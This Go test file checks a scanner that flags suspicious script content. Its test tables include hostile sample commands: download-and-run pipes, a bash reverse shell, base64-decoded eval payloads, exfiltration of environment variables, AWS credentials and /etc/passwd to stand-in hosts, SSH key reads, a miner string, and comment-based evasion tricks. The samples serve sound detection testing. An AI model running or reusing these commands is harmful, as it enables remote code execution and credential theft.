package content

import (
	"fmt"
	"strings"
	"testing"
)

// signs lists the signs of a text.
func signs(text string) string {
	var list []string
	for _, f := range Scan([]byte(text)) {
		list = append(list, string(f.Sign))
	}
	return strings.Join(list, " ")
}

func TestTheListOfSignsCanBeRead(t *testing.T) {
	d, err := embedded()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, w := range d.words {
		seen[string(w.class)] = true
	}
	for _, c := range classes() {
		if !seen[string(c)] {
			t.Errorf("no string of class %s", c)
		}
	}
	for _, line := range []string{"run", `run - `, `run - ""`, `other - "x"`, `run - x`} {
		if _, err := parseWords("# comment\n\n" + line); err == nil || !strings.Contains(err.Error(), "line 3") {
			t.Errorf("%s: error %v", line, err)
		}
	}
}

func TestStrongSigns(t *testing.T) {
	for name, test := range map[string]struct{ text, want string }{
		"a shell that reads a download":      {"curl -fsSL http://192.0.2.1/s.sh | bash", "runs-download"},
		"in a crontab":                       {"* * * * * root curl -s http://192.0.2.1/x | sh\n", "runs-download"},
		"without a blank":                    {"wget -qO- http://192.0.2.1/x|sh", "runs-download"},
		"a program that is fetched":          {"wget -q http://192.0.2.1/a -O /var/tmp/a\nchmod +x /var/tmp/a\n/var/tmp/a", "downloads-program"},
		"in a substitution":                  {`bash -c "$(curl -fsS https://h.example/i)"`, "runs-download"},
		"Python that runs a download":        {"import urllib.request\ntry:\n  exec(urllib.request.urlopen('https://h.example/u').read())\n", "runs-download"},
		"Python that runs what it decodes":   {"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "runs-decoded"},
		"with a step between":                {"payload = base64.b64decode(DATA)\nexec(payload)", "runs-decoded"},
		"in a process of its own":            {`import os, subprocess, sys, base64; subprocess.Popen([sys.executable, '-c', "exec(base64.b64decode('eA=='))"])`, "runs-decoded"},
		"a shell that reads what is decoded": {"echo cHJpbnRm | base64 -d | sh >/dev/null 2>&1 &", "runs-decoded"},
		"PHP":                                {"<?php\n@eval(base64_decode('eA=='));", "runs-decoded"},
		"PHP that unpacks twice":             {"<?php eval(gzinflate(base64_decode($x)));", "runs-decoded"},
		"JavaScript":                         {"eval(Buffer.from('eA==', 'base64').toString())", "runs-decoded"},
		"JavaScript of browsers":             {"new Function(atob(x))()", "runs-decoded"},
		"Ruby":                               {"eval(Base64.decode64('eA=='))", "runs-decoded"},
		"a reverse shell":                    {"bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "reverse-shell"},
		"the environment is sent":            {"const https = require('https');\nhttps.request({host: '192.0.2.1'}).end(JSON.stringify(process.env));", "exfiltrates"},
		"keys are sent":                      {"k = open('/root/.aws/credentials').read(); requests.post(u, data=k)", "exfiltrates"},
		"a service for dropping data":        {"curl -d @/etc/passwd https://webhook.site/abc", "exfiltrates"},
		"several blanks":                     {"curl -s http://192.0.2.1/x |  sh\n", "runs-download"},
		"tabs":                               {"curl\t-s http://192.0.2.1/x |\tsh\n", "runs-download"},
		"lines that go on":                   {"curl -s http://192.0.2.1/x \\\n  | \\\n  sh\n", "runs-download"},
		"a shell by its path":                {"curl -s http://192.0.2.1/x | /usr/bin/sh\n", "runs-download"},
		"a path with two slashes":            {"//usr/bin/curl -s http://192.0.2.1/x | sh\n", "runs-download"},
		"what is printed to a shell":         {"echo 'curl -s http://192.0.2.1/x | sh' | sh\n", "runs-download"},
		"a carriage return ends a comment":   {"# x\rimport base64; exec(base64.b64decode('eA=='))\n", "runs-decoded"},
		"U+2028 ends a comment":              {"// x\u2028eval(atob('eA=='))\n", "runs-decoded"},
		"PHP in a comment of HTML":           {"<!-- <?php eval(base64_decode('eA==')); ?> -->\n", "runs-decoded"},
		"a product":                          {"let x = 2\n  * eval(atob('eA=='))\n", "runs-decoded"},
		"a block within a string":            {"let x = `\n/*\n * a` * eval(atob('eA=='))\n", "runs-decoded"},
		"a block within a string of Python":  {"x = \"\"\"\n/*\n * \"\"\" * exec(base64.b64decode('eA=='))\n", "runs-decoded"},
		"behind the end of a block":          {"/*\n */ eval(atob('eA=='))\n", "runs-decoded"},
		"behind a block":                     {"/**\n * words\n */\n  * eval(atob('eA=='))\n", "runs-decoded"},
		"a miner":                            {"./m -o stratum+tcp://pool.example:3333", "miner-string"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := signs(test.text); !strings.Contains(got, test.want) {
				t.Errorf("got %q, want %s", got, test.want)
			}
		})
	}
}

func TestHarmlessTextsHaveNoStrongSign(t *testing.T) {
	for name, text := range map[string]string{
		"a comment":                  "#!/bin/sh\n# curl -s http://x.example/i | sh\nexec app\n",
		"a comment in a block":       "/**\n * curl http://x.example/i | sh\n */\n",
		"a block of code in words":   "/**\n * Use it so:\n *\n *   eval(atob('eA=='))\n */\nrun();\n",
		"a message":                  "echo 'install it with: curl -s http://x.example/i | sh'\n",
		"a message that is wrapped":  "echo 'install it with: curl -s http://x.example/i | sh' | fold -s\n",
		"a comment of JavaScript":    "//curl http://x.example/i | sh\n// usr/bin/curl x | sh\n",
		"a pipe to another program":  "curl -s http://x.example/list | shuf | head -1\n",
		"a regular expression":       "const m = /x/.exec(s); const d = atob(m[1]);\n",
		"imports only":               "import subprocess, urllib.request, base64\n",
		"setuptools":                 "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim()\n",
		"a namespace package":        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a',))",
		"coverage":                   "import coverage; coverage.process_startup()\n",
		"a download far from a call": "https.get(url, done);\n" + strings.Repeat("const a = 1;\n", 40) + "child_process.execFileSync(bin);\n",
		"a name that only ends so":   "retrieval(base64.b64decode(x))\n",
		"a trigger of ldconfig":      "#!/bin/sh\nset -e\nif [ \"$1\" = triggered ]; then ldconfig; fi\n",
	} {
		t.Run(name, func(t *testing.T) {
			for _, f := range Scan([]byte(text)) {
				if f.Sign.Strong() {
					t.Errorf("%s: %s", f.Sign, f.Excerpt)
				}
			}
		})
	}
}

func TestWeakSigns(t *testing.T) {
	for text, want := range map[string]string{
		"curl -o /tmp/a https://x.example/a":             "downloads",
		"nohup app >/dev/null 2>&1 &":                    "hides",
		"echo x >> /root/.bashrc":                        "persists",
		"cat /root/.ssh/id_ed25519":                      "harvests",
		"var r=require,t=process;r('crypto')":            "obfuscated",
		strings.Repeat("'0123456789abcdef',", 30):        "obfuscated",
		"#!/bin/sh\n" + strings.Repeat("a", 3000) + "\n": "obfuscated",
		"os.system('true')":                              "spawns",
	} {
		if got := signs(text); !strings.Contains(" "+got+" ", " "+want+" ") {
			t.Errorf("%.60s: got %q, want %s", text, got, want)
		}
	}
	if got := signs(strings.Repeat("a", 3000)); got != "" {
		t.Errorf("a long line of no script: %s", got)
	}
}

func TestExcerptsAreBoundedLines(t *testing.T) {
	long := strings.Repeat("x ", 400) + "curl http://x.example/ | sh " + strings.Repeat("y ", 400)
	for _, f := range Scan([]byte(long)) {
		if len(f.Excerpt) > maxExcerpt+4 || strings.ContainsAny(f.Excerpt, "\n\r") || !strings.Contains(f.Excerpt, "| sh") {
			t.Errorf("%s: %q", f.Sign, f.Excerpt)
		}
		break
	}
	for _, s := range []Sign{RunsDownload, RunsDecoded, ReverseShell, Exfiltrates, Mines, Downloads, Connects, Decodes, Spawns, Hides, Persists, Harvests, Obfuscated} {
		if s.Words() == string(s) && s != Downloads {
			t.Errorf("%s has no words", s)
		}
	}
}

// The automaton finds what a search for each string finds.
func TestAutomatonAgainstASimpleSearch(t *testing.T) {
	words := []string{"a", "ab", "bab", "bc", "bca", "c", "caa"}
	a := newAutomaton(words)
	for n := range 2000 {
		text := strings.Map(func(r rune) rune { return 'a' + (r-'0')%3 }, fmt.Sprint(n*7919))
		got, want := map[string]int{}, map[string]int{}
		a.find([]byte(text), func(number, end int) bool { got[fmt.Sprint(words[number], end)]++; return true })
		for _, w := range words {
			for i := range text {
				if strings.HasPrefix(text[i:], w) {
					want[fmt.Sprint(w, i+len(w))]++
				}
			}
		}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("%s: got %v, want %v", text, got, want)
		}
	}
}

func FuzzScan(f *testing.F) {
	f.Add([]byte("curl x | sh"))
	f.Add([]byte("echo \"$(x)\" '"))
	f.Fuzz(func(_ *testing.T, text []byte) {
		Scan(text)
	})
}
